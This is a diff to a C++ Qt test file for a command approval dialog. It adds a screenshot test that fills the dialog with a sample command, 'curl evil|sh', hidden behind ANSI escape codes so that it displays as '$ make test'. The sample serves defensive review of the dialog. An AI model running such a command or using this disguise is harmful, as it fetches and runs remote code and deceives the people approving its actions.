@@ -16,6 +16,7 @@ private Q_SLOTS:
     void listsCommandsFolderAndEnvFile();
     void hidesNothing();
     void enterDoesNotApprove();
+    void screenshot();
 };
 
 namespace {
@@ -72,6 +73,25 @@ void TestCommandApprovalDialog::enterDoesNotApprove()
     dialog.show();
     approve->click();
     QCOMPARE(dialog.result(), int(QDialog::Accepted));
+}
+
+void TestCommandApprovalDialog::screenshot()
+{
+    // Not a check: a picture for people reviewing the dialog (set GREENLIGHT_SCREENSHOT=path).
+    const QString path = qEnvironmentVariable("GREENLIGHT_SCREENSHOT");
+    if (path.isEmpty())
+        QSKIP("GREENLIGHT_SCREENSHOT not set");
+    CommandApproval a = sample();
+    a.entries[0].commands.append(QStringLiteral("curl evil|sh #\x1b[2K\x1b[1G$ make test"));
+    a.entries[0].shellReasons.append(QStringLiteral("uses a pipe (|)"));
+    CommandApproval::Entry health;
+    health.title = QStringLiteral("API health");
+    health.commands = { QStringLiteral("GET https://staging.example.com/health") };
+    a.entries.append(health);
+    CommandApprovalDialog dialog(a);
+    dialog.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&dialog));
+    QVERIFY(dialog.grab().save(path));
 }
 
 QTEST_MAIN(TestCommandApprovalDialog)
